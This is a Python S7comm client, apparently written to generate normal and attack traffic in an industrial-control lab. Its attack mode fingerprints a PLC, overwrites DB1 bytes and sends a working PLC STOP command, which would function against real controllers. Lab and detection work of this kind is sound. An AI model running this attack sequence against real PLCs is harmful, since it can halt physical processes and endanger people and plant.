# A small S7comm client for the attack lab, run with /usr/bin/python3 inside a lab namespace.
#   s7_client.py poll <plc> <seconds>   the HMI: one connection, reads DB1.DBB0..9 every second (normal traffic)
#   s7_client.py attack <plc>           the intruder: connects, reads SZL 0x0011 (module identification), reads and
#                                       writes DB1, then sends PLC STOP
# Every exchange is ISO-on-TCP (TPKT, COTP CR/DT) with S7comm, as a STEP 7 / snap7 client would send it.
import socket
import struct
import sys
import time


def tpkt(payload):
    return struct.pack(">BBH", 3, 0, len(payload) + 4) + payload


def job(ref, param, data=b""):
    return tpkt(bytes([2, 0xF0, 0x80]) + struct.pack(">BBHHHH", 0x32, 1, 0, ref, len(param), len(data)) + param + data)


def item(length, db, start):
    # variable specification: S7ANY, transport size BYTE, count, DB number, area DB (0x84), bit address
    return bytes([0x12, 0x0A, 0x10, 0x02]) + struct.pack(">HH", length, db) + bytes([0x84]) + (start * 8).to_bytes(3, "big")


def read_var(ref, db, start, length):
    return job(ref, bytes([0x04, 1]) + item(length, db, start))


def write_var(ref, db, start, values):
    return job(ref, bytes([0x05, 1]) + item(len(values), db, start),
               struct.pack(">BBH", 0x00, 0x04, len(values) * 8) + bytes(values))


def read_szl(ref, szl_id, index):
    param = bytes([0x00, 0x01, 0x12, 0x04, 0x11, 0x44, 0x01, 0x00])
    data = struct.pack(">BBHHH", 0xFF, 0x09, 4, szl_id, index)
    return tpkt(bytes([2, 0xF0, 0x80]) + struct.pack(">BBHHHH", 0x32, 7, 0, ref, len(param), len(data)) + param + data)


def plc_stop(ref):
    return job(ref, bytes([0x29, 0, 0, 0, 0, 0, 9]) + b"P_PROGRAM")


def exchange(sock, pdu):
    sock.sendall(pdu)
    head = recv(sock, 4)
    return recv(sock, struct.unpack(">H", head[2:4])[0] - 4)


def recv(sock, n):
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("the PLC closed the connection")
        buf += chunk
    return buf


def connect(plc):
    sock = socket.create_connection((plc, 102), timeout=5)
    # COTP CR: dst-ref 0, src-ref 0x0005, class 0; TPDU size 1024, calling TSAP 0x0100, called TSAP 0x0102 (rack 0, slot 2)
    cr = bytes([0xE0, 0, 0, 0, 5, 0, 0xC0, 1, 0x0A, 0xC1, 2, 1, 0, 0xC2, 2, 1, 2])
    exchange(sock, tpkt(bytes([len(cr)]) + cr))
    exchange(sock, job(1, bytes([0xF0, 0, 0, 1, 0, 1, 0x03, 0xC0])))
    return sock


def main():
    mode, plc = sys.argv[1], sys.argv[2]
    sock = connect(plc)
    ref = 2
    if mode == "poll":
        end = time.monotonic() + float(sys.argv[3])
        while time.monotonic() < end:
            exchange(sock, read_var(ref, 1, 0, 10))
            ref += 1
            time.sleep(1)
    else:
        for pdu in (read_szl(ref, 0x0011, 0), read_var(ref + 1, 1, 0, 10), write_var(ref + 2, 1, 0, [0xDE, 0xAD]),
                    plc_stop(ref + 3)):
            exchange(sock, pdu)
    sock.close()


if __name__ == "__main__":
    main()
